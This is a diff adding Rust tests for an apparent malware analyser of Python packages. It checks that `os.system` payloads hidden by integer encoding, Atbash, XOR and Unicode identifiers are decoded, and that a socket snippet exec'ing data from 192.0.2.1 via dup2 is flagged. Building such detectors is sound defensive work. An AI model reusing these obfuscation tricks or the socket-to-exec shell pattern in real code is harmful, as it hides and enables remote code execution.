@@ -172,3 +172,69 @@ fn zlib_base64_blob_is_decoded() {
         .expect("child");
     assert_eq!(child.chain.len(), 1);
 }
+
+/// The payload of a decoder the folder sees through is analysed as a child: its
+/// `os.system` call shows up with a decode chain.
+fn decodes_to_system(src: &str) -> bool {
+    analyze_python(src.as_bytes(), FileRole::PackageInit)
+        .events
+        .iter()
+        .any(|e| e.api == "os.system" && !e.chain.is_empty())
+}
+
+#[test]
+fn folded_decoders_reach_the_payload() {
+    // `import os;os.system('id')` as integers.
+    let ints = "105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41";
+    assert!(decodes_to_system(&format!(
+        "exec(bytes([{ints}]).decode())\n"
+    )));
+    assert!(decodes_to_system(&format!(
+        "A, B, C = exec, str, bytes\nA(B(C([{ints}]).decode()))\n"
+    )));
+    // Atbash char map of `import os;os.system('id')`.
+    assert!(decodes_to_system(
+        "a = 'abcdefghijklmnopqrstuvwxyz'\nr = a[::-1]\n\
+exec(''.join([r[a.index(c)] if c in a else c for c in \"rnklig lh;lh.hbhgvn('rw')\"]))\n"
+    ));
+    // XOR with a repeating key, in a generator.
+    let code = "import os;os.system('id')";
+    let key = b"ab";
+    let enc: String = code
+        .bytes()
+        .enumerate()
+        .map(|(i, c)| format!("\\x{:02x}", c ^ key[i % 2]))
+        .collect();
+    let src = format!(
+        "d = '{enc}'\nk = 'ab'\nexec(''.join(chr(ord(d[i]) ^ ord(k[i % len(k)])) for i in range(len(d))))\n"
+    );
+    let a = analyze_python(src.as_bytes(), FileRole::PackageInit);
+    assert!(
+        a.events
+            .iter()
+            .any(|e| e.kind == EventKind::Exec && e.taint.has(Taint::DECRYPTED)),
+        "{:?}",
+        a.events
+    );
+}
+
+#[test]
+fn identifiers_are_nfkc_normalised() {
+    let src = "\u{1d608}\u{1d634} = __\u{1d62a}\u{1d62e}\u{1d631}\u{1d630}\u{1d633}\u{1d635}__('os')\n\u{1d608}\u{1d634}.system('id')\n";
+    let ev = kinds(src, FileRole::PackageInit);
+    assert!(ev.iter().any(|e| e.1 == "os.system"), "{ev:?}");
+}
+
+#[test]
+fn socket_data_is_tainted_and_dup2_names_its_source() {
+    let src = "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\nexec(s.recv(100))\n";
+    let a = analyze_python(src.as_bytes(), FileRole::Module);
+    let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).unwrap();
+    assert!(exec.taint.has(Taint::SOCKET) && exec.taint.has(Taint::NETWORK));
+    let dup = a
+        .events
+        .iter()
+        .find(|e| e.kind == EventKind::FdRedirect)
+        .unwrap();
+    assert_eq!(dup.arg.as_deref(), Some("socket.socket.fileno -> 0"));
+}
